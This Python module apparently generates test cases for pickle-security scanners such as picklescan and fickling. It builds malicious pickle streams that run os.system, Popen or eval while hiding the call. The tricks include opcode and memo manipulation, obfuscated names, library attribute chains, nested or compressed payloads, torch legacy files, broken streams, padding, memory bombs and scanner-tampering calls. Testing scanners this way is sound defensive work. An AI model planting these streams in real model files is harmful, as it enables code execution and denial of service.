"""Pickle streams that hide what they call: by opcodes, by a broken end, by nesting, by attributes, by their size."""

import base64
import gzip
import pickle
import struct
import zlib

from .case import CMD, EVIL, EVIL_OLD, GOOD, P2, P4, Case, apply, b, call, call_old, stack_global, table, text_global, u

RUN = b"\x93" + u(CMD) + b"\x85R."
OD = stack_global("collections", "OrderedDict")

BASELINE = {
    **{f"protocol-{n}": (b"\x80" + bytes([n]) if n > 1 else b"") + EVIL_OLD for n in range(6)},
    "framed": P4 + b"\x95" + struct.pack("<Q", len(EVIL) - 2) + EVIL[2:],
}

CHAINS = [("logging", "os.system", CMD), ("random", "_os.system", CMD), ("joblib.memory", "os.system", CMD),
          ("sklearn.datasets._base", "os.system", CMD), ("torch.serialization", "os.system", CMD),
          ("xgboost.core", "ctypes.CDLL", "none.so"), ("numpy.lib._npyio_impl", "os.system", CMD), ("shutil", "os.popen", CMD),
          ("collections", "_sys.modules", CMD), ("datetime", "sys.modules", CMD),
          ("sklearn.base", "BaseEstimator.__init__.__globals__.get", "__builtins__")]  # fmt: skip

OPCODE = {
    "memo-binget": P4 + u("os") + b"q\x050" + u("system") + b"q\x060h\x05h\x06" + RUN,
    "memo-long-binget": P4 + u("os") + b"r\x00\x01\x00\x000" + u("system") + b"r\x01\x01\x00\x000j\x00\x01\x00\x00j\x01\x01\x00\x00" + RUN,
    "memo-text-get": P4 + u("os") + b"p9\n0" + u("system") + b"p10\n0g9\ng10\n" + RUN,
    "memo-overwritten": P4 + u("math") + b"q\x010" + u("os") + b"q\x010h\x01" + u("system") + RUN,
    "memo-overwritten-after-use": P4 + u("collections") + b"q\x01" + u("OrderedDict") + b"\x93)R0" + u("os") + b"q\x010h\x01" + u("system") + RUN,
    "memoize-shifted": P4 + u("math") + b"q\x070" + u("os") + b"\x940" + u("sqrt") + b"\x940h\x01" + u("system") + RUN,
    "dup-operand": P4 + u("code") + b"2" + RUN,
    "decoy-pop": P4 + u("os") + u("math") + b"0" + u("system") + u("sqrt") + b"0" + RUN,
    "decoy-pop-mark": P4 + u("os") + b"(" + u("math") + u("sqrt") + b"1" + u("system") + RUN,
    "escaped-string": b"S'\\x6f\\x73'\nS'syst\\145m'\n\x93(S'true'\ntR.",
    "escaped-unicode": b"V\\u006f\\u0073\nVsyste\\u006d\n\x93(Vtrue\ntR.",
    "binstring": P2 + b"T\x02\x00\x00\x00osU\x06system\x93U\x04true\x85R.",
    "inst": b"(S'true'\nios\nsystem\n.",
    "obj": b"(cos\nsystem\nS'true'\no.",
    "newobj": P2 + text_global("subprocess", "Popen") + b"U\x04true\x85\x81.",
    "newobj-ex": P4 + stack_global("subprocess", "Popen") + u(CMD) + b"\x85}\x92.",
    "base0-int": b"I0x1\n0" + EVIL_OLD,
    "base0-long": b"L0x1L\n0" + EVIL_OLD,
    "reduce-in-binpersid": P4 + apply("os", "system", CMD) + b"Q.",
    "reduce-before-persid": P4 + apply("os", "system", CMD) + b"0P1\n.",
    "build-builtins": P4 + stack_global("numpy", "size") + b"}" + u("__builtins__") + stack_global("os", "system") + b"sb.",
    "build-parked-operands": P4 + OD + b"}" + u("a") + stack_global("os", "system") + b"sb0" + stack_global("collections", "OrderedDict.a") + u(CMD) + b"\x85R.",
    "build-planted-setstate": P4 + OD + b")\x81}" + u("__setstate__") + stack_global("os", "system") + b"sb" + u(CMD) + b"b.",
    "extension-added": P4 + apply("copyreg", "add_extension", "os", "system", b"K\x07") + b"0\x82\x07" + u(CMD) + b"\x85R.",
    "extension-code-1": P4 + b"\x82\x09" + u(CMD) + b"\x85R.",
    "extension-code-2": P4 + b"\x83\x09\x01" + u(CMD) + b"\x85R.",
    "extension-code-4": P4 + b"\x84\x09\x01\x01\x00" + u(CMD) + b"\x85R.",
    "name-joined": P4 + apply("builtins", "str.join", "", b"(" + u("o") + u("s") + b"l") + u("system") + RUN,
    "name-rot13": P4 + apply("codecs", "encode", "bf", "rot13") + apply("codecs", "encode", "flfgrz", "rot13") + RUN,
    "name-reversed": P4 + apply("builtins", "str.replace", "oxs", "x", "") + u("system") + RUN,
    "append-method": P4 + stack_global("os", "system") + u(CMD) + b"a.",
    "appends-method": P4 + stack_global("os", "system") + b"(" + u(CMD) + u(CMD) + b"e.",
    "python2-exec": call_old("__builtin__", "eval", "1"),
    "empty-frame": P4 + b"\x95" + b"\0" * 8 + EVIL[2:],
}  # fmt: skip

BODY = EVIL[:-1]
BROKEN = {
    "no-stop": BODY, "invalid-opcode": BODY + b"\xff.", "cut-string": BODY + b"\x8c\x20abc", "stack-underflow": BODY + b"00000000.",
    "missing-memo": BODY + b"h\xee.", "bad-integer": BODY + b"Ixyz\n.", "endless-frame": BODY + b"\x95" + b"\xff" * 8,
    "bad-utf8": BODY + b"\x8c\x02\xff\xfe.", "cut-argument": BODY + b"\x8e\x01\x02", "negative-length": BODY + b"T\xff\xff\xff\xff.",
    "no-mark": BODY + b"t.", "pop-mark-without": BODY + b"1.", "future-protocol": BODY + b"\x80\x63.",
}  # fmt: skip

INNER = b(EVIL)
PACKED = b(zlib.compress(EVIL))
MARSHAL = b"\xe3" + bytes(20)
NESTED = {
    "pickle.loads": call("pickle", "loads", INNER), "_pickle.loads": call("_pickle", "loads", INNER),
    "dill.loads": call("dill", "loads", INNER), "cloudpickle.loads": call("cloudpickle", "loads", INNER),
    "torch-load-from-bytes": call("torch.storage", "_load_from_bytes", INNER),
    "base64": call("pickle", "loads", apply("base64", "b64decode", base64.b64encode(EVIL).decode())),
    "zlib": call("pickle", "loads", apply("zlib", "decompress", PACKED)),
    "base64-zlib": call("pickle", "loads", apply("zlib", "decompress", apply("base64", "b64decode", base64.b64encode(zlib.compress(EVIL)).decode()))),
    "gzip": call("pickle", "loads", apply("gzip", "decompress", b(gzip.compress(EVIL, mtime=0)))),
    "cpickle-python2": call_old("cPickle", "loads", "N."),
    "unpickler-class": call("pickle", "Unpickler", apply("io", "BytesIO", INNER)),
    "marshal-function": P4 + stack_global("types", "FunctionType") + apply("marshal", "loads", b(MARSHAL)) + b"}\x86R)R.",
    "cloudpickle-function": P4 + apply("cloudpickle.cloudpickle", "_make_function", apply("marshal", "loads", b(MARSHAL)), b"}", b"N", b"N", b"N") + b")R.",
    "joblib-loads": call("joblib", "load", apply("io", "BytesIO", INNER)),
    "pandas-read-pickle": call("pandas", "read_pickle", apply("io", "BytesIO", INNER)),
    "sharedctypes-rebuild": call("multiprocessing.reduction", "ForkingPickler.loads", INNER),
}  # fmt: skip

LEGACY = [pickle.dumps(v, 2) for v in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
TORCH_LEGACY = {
    "object": b"".join(LEGACY) + EVIL + pickle.dumps([], 2),
    "keys-5th": b"".join(LEGACY) + GOOD + EVIL,
    "information": LEGACY[0] + LEGACY[1] + EVIL,
    "magic-computed": call("builtins", "eval", "0x1950a86a20f9469cfc6c") + LEGACY[1] + LEGACY[2] + GOOD,
    "version-computed": LEGACY[0] + call("builtins", "eval", "1001") + LEGACY[2] + GOOD,
    "sixth": b"".join(LEGACY) + GOOD + pickle.dumps([], 2) + EVIL,
    "protocol-0": b"".join(LEGACY) + EVIL_OLD,
}

RESOURCE = {
    "opcodes-before": P4 + b"N0" * 300_000 + EVIL[2:],
    "two-thousand-stacked": pickle.dumps(1) * 2000 + EVIL,
    "large-string-before": P4 + b(bytes(3 << 20)) + b"0" + EVIL[2:],
    "deep-tuples-before": P4 + b")" + b"\x85" * 30_000 + b"0" + EVIL[2:],
    "many-memo-before": P4 + b"N" + b"\x94" * 200_000 + b"0" + EVIL[2:],
    "many-imports-before": P4 + (stack_global("collections", "OrderedDict") + b"0") * 20_000 + EVIL[2:],
}
BOMB = {
    "memo": P4 + b"Nr\xff\xff\xff\x7f.",
    "binbytes8": P4 + b"\x8e" + struct.pack("<Q", 1 << 40) + b"x.",
    "hash": P4 + b"})" + b"2\x86" * 60 + b"Ns.",
    "bytes-of-number": P4 + stack_global("builtins", "bytes") + b"\x8a\x06" + b"\0" * 5 + b"\x10\x85R.",
    "list-of-range": call("builtins", "list", apply("builtins", "range", b"\x8a\x06" + b"\0" * 5 + b"\x10")),
}
SCANNERS = {
    "assay": ("assay.artifacts.scan", "scan"),
    "picklescan": ("picklescan.scanner", "scan_bytes"),
    "fickling": ("fickling.hook", "run_hook"),
}


def cases() -> list[Case]:
    chains = {f"{m}-{n}": call(m, n, a) for m, n, a in CHAINS}
    tamper = {f"tamper-{n}": call(m, a, CMD) for n, (m, a) in SCANNERS.items()}
    return [
        *table("baseline", BASELINE), *[Case("attr-chain", n, n + ".pkl", d) for n, d in chains.items()], *table("opcode", OPCODE | tamper),
        *table("broken-stream", BROKEN), *[Case("nested", n, n + ".pkl", d) for n, d in NESTED.items()],
        *table("torch-legacy", TORCH_LEGACY, ".pt"), *table("resource", RESOURCE), *table("bomb", BOMB),
    ]  # fmt: skip
